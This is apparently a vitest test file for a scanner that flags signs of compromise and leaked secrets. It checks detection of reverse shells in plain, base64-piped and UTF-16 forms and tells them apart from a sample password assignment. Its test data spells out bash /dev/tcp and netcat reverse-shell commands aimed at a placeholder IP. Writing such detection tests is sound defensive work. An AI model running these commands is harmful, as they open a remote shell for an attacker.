// Signs of a compromise: what each must find, and what looks like it.
import { describe, expect, it } from 'vitest'
import { dearInWindow } from '../../src/expressions/cost.ts'
import { INDICATORS, indicatorsIn } from '../../src/secrets/indicators.ts'
import { processScanner } from '../../src/secrets/scanner.ts'
import { samples } from '../detector-samples.ts'

const scanner = processScanner()

function signsIn(text: string, path = '/x'): string[] {
  const scan = scanner.start(path)
  scan.push(Buffer.from(text, 'latin1'), true)
  return scan.indicators.map(({ detector }) => detector)
}

describe('each sign', () => {
  it.each(INDICATORS.map((each) => [each.id, each] as const))('%s', (id, { examples, quiet = [], pattern, window }) => {
    for (const { text, path } of samples(examples)) {
      expect(signsIn(text, path), text).toContain(id)
      // A program's text is searched by the scanner alone.
      if (!text.includes('\0'))
        expect(
          indicatorsIn(text).map(({ detector }) => detector.id),
          text,
        ).toContain(id)
    }
    for (const { text, path } of samples(quiet)) {
      expect(signsIn(text, path), text).not.toContain(id)
      if (!text.includes('UPX'))
        expect(
          indicatorsIn(text).map(({ detector }) => detector.id),
          text,
        ).not.toContain(id)
    }
    expect(dearInWindow(pattern.source, pattern.flags, window ?? 256)).toBeNull()
  })

  it('is found in what is packed and encoded', () => {
    const shell = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
    expect(signsIn(`echo ${Buffer.from(shell).toString('base64')} | base64 -d | sh`)).toContain('reverse-shell:bash')
    expect(signsIn(Buffer.from(shell, 'utf16le').toString('latin1'))).toContain('reverse-shell:bash')
  })

  it('hides no secret, and is none', () => {
    const scan = scanner.start('/x')
    scan.push(Buffer.from('nc 203.0.113.9 4444 -e /bin/sh\nDB_PASSWORD=Kx9-mmQ4-77ZZ\n'), true)
    expect(scan.matches.map(({ detector }) => detector)).toEqual(['generic-assignment'])
    expect(scan.indicators).toMatchObject([{ detector: 'reverse-shell:netcat', line: 1 }])
  })
})
